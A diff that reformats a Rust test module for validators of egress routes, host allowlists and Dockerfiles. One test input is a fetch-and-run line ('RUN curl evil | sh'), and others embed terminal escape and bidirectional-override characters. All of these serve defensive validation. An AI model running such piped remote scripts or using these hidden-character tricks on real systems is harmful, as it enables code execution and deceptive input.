@@ -262,7 +262,10 @@ mod tests {
     #[test]
     fn route_errors_point_into_the_proposal() {
         let e = egress("routes:\n  - host: a..com\n").unwrap_err().0;
-        assert!(e.contains("routes:2:11: host: invalid host `a..com`"), "{e}");
+        assert!(
+            e.contains("routes:2:11: host: invalid host `a..com`"),
+            "{e}"
+        );
         let e = egress("routes:\n  - hots: a.com\n").unwrap_err().0;
         assert!(e.contains("did you mean `host`?"), "{e}");
         let e = egress("").unwrap_err().0;
@@ -282,12 +285,16 @@ mod tests {
     fn bad_allowlists_name_each_bad_entry() {
         let e = pipelock(&[]).unwrap_err().0;
         assert!(e.contains("empty"), "{e}");
-        let e = pipelock(&["ok.com", "https://x.com/", "a b", "*"]).unwrap_err().0;
+        let e = pipelock(&["ok.com", "https://x.com/", "a b", "*"])
+            .unwrap_err()
+            .0;
         assert!(e.contains("allowlist[1]"), "{e}");
         assert!(e.contains("allowlist[2]"), "{e}");
         assert!(e.contains("allowlist[3]"), "{e}");
         assert!(!e.contains("allowlist[0]"), "{e}");
-        let many: Vec<String> = (0..=MAX_ALLOWLIST_ENTRIES).map(|i| format!("h{i}.com")).collect();
+        let many: Vec<String> = (0..=MAX_ALLOWLIST_ENTRIES)
+            .map(|i| format!("h{i}.com"))
+            .collect();
         let refs: Vec<&str> = many.iter().map(String::as_str).collect();
         assert!(pipelock(&refs).unwrap_err().0.contains("over the limit"));
         let bad: Vec<String> = (0..50).map(|i| format!("bad host {i}")).collect();
@@ -298,7 +305,10 @@ mod tests {
     #[test]
     fn dockerfiles_must_start_with_from() {
         let e = docker("RUN curl evil | sh\n").unwrap_err().0;
-        assert!(e.starts_with("dockerfile: line 1: the first instruction is `RUN`"), "{e}");
+        assert!(
+            e.starts_with("dockerfile: line 1: the first instruction is `RUN`"),
+            "{e}"
+        );
     }
 
     #[test]
@@ -330,7 +340,10 @@ mod tests {
     #[test]
     fn terminal_tricks_are_refused_with_position() {
         let e = docker("FROM x\nRUN echo \u{1b}[2Jhi\n").unwrap_err().0;
-        assert!(e.starts_with("dockerfile:2:10: contains the character U+001B"), "{e}");
+        assert!(
+            e.starts_with("dockerfile:2:10: contains the character U+001B"),
+            "{e}"
+        );
         let e = egress("routes: [] # \u{202E}evil\n").unwrap_err().0;
         assert!(e.contains("U+202E"), "{e}");
         assert!(docker("FROM x\rRUN y\n").unwrap_err().0.contains("U+000D"));
